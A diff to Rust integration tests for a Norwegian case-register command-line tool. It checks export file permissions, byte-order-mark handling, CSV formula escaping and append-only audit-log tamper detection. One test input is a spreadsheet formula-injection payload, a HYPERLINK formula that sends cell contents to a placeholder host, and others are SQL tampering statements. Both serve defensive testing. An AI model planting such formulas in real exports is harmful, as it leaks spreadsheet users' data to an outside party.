@@ -735,6 +735,9 @@ fn the_register_exports_as_csv_for_a_norwegian_spreadsheet_and_as_json() {
     ]);
     let json: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
     assert_eq!(json.as_array().unwrap().len(), 2);
+    let mode =
+        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&file).unwrap().permissions());
+    assert_eq!(mode & 0o777, 0o600, "an export is private like the store");
     // An existing file is never overwritten.
     let err = cli.fails(
         &["case", "export", "--output", file.to_str().unwrap()],
@@ -747,6 +750,23 @@ fn the_register_exports_as_csv_for_a_norwegian_spreadsheet_and_as_json() {
     assert_eq!(
         serde_json::from_str::<Value>(&std::fs::read_to_string(&file).unwrap()).unwrap(),
         json
+    );
+
+    // A document saved by Notepad, with a byte-order mark, is read as the JSON it is.
+    cli.ok(
+        &["case", "new", "--draft", "--json", "-"],
+        Some("\u{feff}{\"title\": \"Fra Notisblokk\"}"),
+    );
+    // A title a spreadsheet would run as a formula comes out as text.
+    cli.ok(
+        &["case", "new", "--draft", "--json", "-"],
+        Some(r#"{"title": " =HYPERLINK(\"http://x.example/?\"&A1,\"Klikk\")"}"#),
+    );
+    let out = cli.run(&["case", "export", "--format", "csv"], None);
+    let csv = String::from_utf8(out.stdout).unwrap();
+    assert!(
+        csv.contains(r#";"'=HYPERLINK(""http://x.example/?""&A1,""Klikk"")";"#),
+        "{csv}"
     );
 }
 
@@ -1545,6 +1565,8 @@ fn audit_verify_catches_every_kind_of_tampering_with_plain_sql() {
             "UPDATE case_events SET redacted = 1, hash = NULL WHERE seq = 3",
             "UPDATE case_events SET redacted = 1, data = '{\"forfalsket\":1}' WHERE seq = 3",
             "UPDATE case_events SET actor = NULL WHERE seq = 3",
+            // Retention's one rewrite, on a case that was never anonymised.
+            "UPDATE case_events SET redacted = 1, data = '{}' WHERE seq = 3",
         ] {
             let err = conn.execute(sneaky, []).unwrap_err();
             assert!(err.to_string().contains("append-only"), "{sneaky}: {err}");
@@ -1591,6 +1613,11 @@ fn audit_verify_catches_every_kind_of_tampering_with_plain_sql() {
             "the newest events removed",
             "DELETE FROM case_events WHERE seq > (SELECT max(seq) - 2 FROM case_events);",
             "the newest events were removed",
+        ),
+        (
+            "an event's content erased as if retention had run",
+            "UPDATE case_events SET redacted = 1, data = '{}' WHERE seq = 4",
+            "event 4 ",
         ),
     ];
     let original = std::fs::read(cli.db()).unwrap();
